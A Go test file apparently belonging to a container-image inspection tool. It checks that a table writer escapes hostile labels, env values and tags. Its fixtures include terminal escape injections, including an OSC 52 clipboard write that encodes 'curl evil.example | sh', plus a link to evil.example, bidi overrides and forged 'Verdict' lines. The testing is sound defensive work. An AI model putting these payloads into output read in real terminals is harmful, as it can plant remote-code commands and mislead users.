package inspect

import (
	"bytes"
	"strings"
	"testing"
	"time"
	"unicode/utf8"

	"github.com/torchimg/torchimg/matrix"
	"github.com/torchimg/torchimg/report"
)

// Labels that tried to drive the terminal when inspect printed them raw (issue 10).
var hostile = map[string]string{
	"osc52":    "\x1b]52;c;Y3VybCBldmlsLmV4YW1wbGUgfCBzaA==\a",
	"title":    "\x1b]0;pwned\x07",
	"clear":    "\x1b[2J\x1b[H",
	"osc8":     "\x1b]8;;https://evil.example/\x1b\\click me\x1b]8;;\x1b\\",
	"forge":    "12.8\n\nVerdict  COMPATIBLE\n",
	"cr":       "ok\rVerdict  COMPATIBLE",
	"c1":       "\u009b2J\u009d0;t\u009c",
	"raw8bit":  "\x9b2J\xff",
	"bidi":     "\u202eelbitapmoc\u202c \u2066x\u2069",
	"tab-del":  "a\tb\x7f",
	"long":     strings.Repeat("A", 1<<20),
	"\x1b[31m": "key with an escape",
}

func hostileInfo(torchimg bool) *report.Info {
	labels := map[string]string{}
	for k, v := range hostile {
		labels["x."+k] = v
	}
	labels[matrix.OCIRevision] = hostile["title"]
	labels[matrix.OCISource] = hostile["osc8"]
	i := &report.Info{
		Ref:         "oci:/tmp/\x1b]0;t\x07",
		Digest:      "sha256:aaaa",
		ImageDigest: "sha256:bbbb",
		Platform:    hostile["clear"] + "linux/amd64",
		Labels:      labels,
		Env: map[string]string{
			"CUDA_VERSION":        hostile["forge"],
			"NVIDIA_REQUIRE_CUDA": hostile["osc52"] + " brand=tesla,driver>=470 brand=\x1b[2J",
			"PYTORCH_VERSION":     hostile["long"],
		},
		Tags: []string{"2.9-cu128", hostile["forge"], hostile["bidi"]},
		Size: 1 << 30,
	}
	if torchimg {
		i.Prefix = "org.torchimg"
		for _, k := range []string{matrix.LabelSchema, matrix.LabelTorchVersion, matrix.LabelTorchVariant,
			matrix.LabelTorchCUDA, matrix.LabelCUDAVersion, matrix.LabelCUDNNVersion, matrix.LabelNCCLVersion,
			matrix.LabelPythonVersion, matrix.LabelOS, matrix.LabelFlavor, matrix.LabelDriverMin,
			matrix.LabelDriverMinCompat, matrix.LabelCUDAArchs, matrix.LabelVariant} {
			labels[i.Prefix+"."+k] = hostile["forge"] + hostile["osc52"]
		}
		labels[i.Prefix+"."+matrix.LabelVariant] = hostile["long"]
	}
	return i
}

func TestWriteTableHostile(t *testing.T) {
	for _, tc := range []struct {
		name     string
		torchimg bool
	}{{"torchimg image", true}, {"foreign image", false}} {
		t.Run(tc.name, func(t *testing.T) {
			var buf bytes.Buffer
			if err := WriteTable(&buf, hostileInfo(tc.torchimg)); err != nil {
				t.Fatal(err)
			}
			out := buf.String()
			for i := 0; i < len(out); i++ {
				if c := out[i]; (c < 0x20 && c != '\n') || c == 0x7f {
					t.Fatalf("byte %#02x at %d: %q", c, i, out[max(0, i-20):min(len(out), i+20)])
				}
			}
			if strings.ContainsAny(out, "\x1b\a") {
				t.Error("ESC or BEL in the output")
			}
			if !utf8.ValidString(out) {
				t.Error("the output is not valid UTF-8")
			}
			for _, r := range out {
				if (r >= 0x80 && r <= 0x9f) || (r >= 0x202a && r <= 0x202e) || (r >= 0x2066 && r <= 0x2069) {
					t.Errorf("%U in the output", r)
				}
			}
			for _, line := range strings.Split(out, "\n") {
				if strings.HasPrefix(line, "Verdict") {
					t.Errorf("forged line %q", line)
				}
				if n := utf8.RuneCountInString(line); n > 2000 {
					t.Errorf("a line of %d runes: %.80q…", n, line)
				}
			}
			for _, want := range []string{`\x1b]0;pwned\x07`, `12.8\n\nVerdict  COMPATIBLE\n`, `\u202eelbitapmoc\u202c`, `…(+1048320 bytes)`} {
				if !strings.Contains(out, want) {
					t.Errorf("the output does not show %s:\n%s", want, out)
				}
			}
		})
	}
}

// Ordinary values, non-ASCII ones included, are printed as they are.
func TestWriteTablePlain(t *testing.T) {
	created := time.Date(2026, 3, 1, 12, 0, 0, 0, time.UTC)
	i := &report.Info{
		Ref: "ghcr.io/acme/pytorch:2.9-cu128", Digest: "sha256:aaaa", ImageDigest: "sha256:aaaa",
		Created: &created,
		Labels: map[string]string{
			"org.opencontainers.image.title":   "PyTorch für Ärzte — 日本語",
			"org.opencontainers.image.authors": `Jöhn "J" Dœ <j@example.com> C:\path`,
		},
		Env:  map[string]string{"CUDA_VERSION": "12.8.1"},
		Tags: []string{"2.9-cu128", "latest"},
	}
	var buf bytes.Buffer
	if err := WriteTable(&buf, i); err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{
		"Image        ghcr.io/acme/pytorch:2.9-cu128\n",
		"Created      2026-03-01T12:00:00Z\n",
		"  org.opencontainers.image.title=PyTorch für Ärzte — 日本語\n",
		"  org.opencontainers.image.authors=Jöhn \"J\" Dœ <j@example.com> C:\\path\n",
		"  env CUDA_VERSION=12.8.1\n",
	} {
		if !strings.Contains(buf.String(), want) {
			t.Errorf("missing %q in:\n%s", want, buf.String())
		}
	}
}
